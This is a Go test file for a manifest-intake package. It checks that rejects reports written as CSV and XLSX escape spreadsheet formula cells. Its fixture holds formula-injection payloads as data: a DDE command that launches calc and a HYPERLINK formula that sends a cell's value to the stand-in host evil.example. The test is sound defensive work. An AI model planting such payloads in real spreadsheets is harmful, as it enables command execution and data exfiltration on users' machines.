package intake

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/epiloop/epiloop"
	"github.com/xuri/excelize/v2"
)

// hostileManifest is a manifest whose rows are all rejected and whose
// cells, and one header, would run as formulas if a rejects report
// wrote them as they are.
var hostileManifest = [][]string{
	{"姓名", "身份证号", "手机号", "体温", "备注", "=cmd|' /C calc'!A0"},
	{`=HYPERLINK("http://evil.example/?d="&B2,"点击")`, "110105194912310021", "13800138000", "", "", ""},
	{"张三", "11010519491231002X", "+1", "", "", ""},
	{"@SUM(A1)", "1101051949", "", "", "", ""},
	{"李四", "", "", "", "\t=1", ""},
	{"王五", "11010519491231002X", "", "-5", "", "''=1"}, // reads as '=1
	{"赵六", "123", "13900139000", "", "-", "-2+3+cmd|' /C calc'!A0"},
}

// hostileCells returns the cells of data row i of hostileManifest as the
// reader gives them: a quote that guards a formula is taken off, in any
// file.
func hostileCells(i int) []string {
	cells := slices.Clone(hostileManifest[i+1])
	for j, c := range cells {
		cells[j] = epiloop.CSVRestore(c)
	}
	return cells
}

// TestRejectsGuardFormulas writes the rejects report of hostileManifest
// in each format: no cell of the report starts a formula, and the report
// read back gives the original cells and headers.
func TestRejectsGuardFormulas(t *testing.T) {
	for _, format := range []Format{FormatCSV, FormatXLSX} {
		t.Run(string(format), func(t *testing.T) {
			var src []byte
			if format == FormatCSV {
				src = encodeCSV(t, hostileManifest, nil, "\ufeff", ',')
			} else {
				src = xlsxFile(t, []string{"S"}, map[string][][]any{"S": anyRows(hostileManifest)}, nil)
			}
			r := openBytes(t, src, Options{Regions: testRegions()})
			info := r.Info()
			rows := readAll(t, r)
			if len(rows) != len(hostileManifest)-1 {
				t.Fatalf("%d rows read, want %d", len(rows), len(hostileManifest)-1)
			}
			var report bytes.Buffer
			rw, err := NewRejectWriter(&report, format, info.Headers(), "zh")
			if err != nil {
				t.Fatal(err)
			}
			for i := range rows {
				if rows[i].Valid() {
					t.Fatalf("row %d passed", rows[i].Line)
				}
				if got, want := rows[i].Cells, hostileCells(i); !slices.Equal(got, want) {
					t.Fatalf("row %d read as %q, want %q", rows[i].Line, got, want)
				}
				if err := rw.Write(&rows[i]); err != nil {
					t.Fatal(err)
				}
			}
			if err := rw.Close(); err != nil {
				t.Fatal(err)
			}

			written := reportCells(t, format, report.Bytes())
			for i, want := range [][2]string{
				{hostileManifest[0][5], "'" + hostileManifest[0][5]},
				{hostileManifest[1][0], "'" + hostileManifest[1][0]},
				{"+1", "'+1"},
				{"@SUM(A1)", "'@SUM(A1)"},
				{"\t=1", "'\t=1"},
				{"-5", "'-5"},
				{"'=1", "''=1"},
			} {
				if !slices.Contains(written, want[1]) {
					t.Errorf("%d: report lacks %q for the cell %q", i, want[1], want[0])
				}
			}
			for _, c := range written {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("report cell %q starts a formula", c)
				}
			}

			back := openBytes(t, report.Bytes(), Options{Regions: testRegions()})
			binfo := back.Info()
			if got, want := binfo.Headers()[4:], hostileManifest[0]; !slices.Equal(got, want) {
				t.Errorf("headers read back %q, want %q", got, want)
			}
			again := readAll(t, back)
			if len(again) != len(rows) {
				t.Fatalf("%d rows read back, want %d", len(again), len(rows))
			}
			for i, row := range again {
				if got, want := row.Cells[4:], hostileCells(i); !slices.Equal(got, want) {
					t.Errorf("row %d read back as %q, want %q", i, got, want)
				}
				if row.Reject.Code != rows[i].Reject.Code {
					t.Errorf("row %d: code %q read back, was %q", i, row.Reject.Code, rows[i].Reject.Code)
				}
			}
		})
	}
}

// reportCells returns every cell of a rejects report as a spreadsheet
// program would see it.
func reportCells(t *testing.T, format Format, b []byte) []string {
	t.Helper()
	var rows [][]string
	if format == FormatCSV {
		cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
		var err error
		if rows, err = cr.ReadAll(); err != nil {
			t.Fatal(err)
		}
	} else {
		f, err := excelize.OpenReader(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if rows, err = f.GetRows(f.GetSheetList()[0]); err != nil {
			t.Fatal(err)
		}
	}
	return slices.Concat(rows...)
}
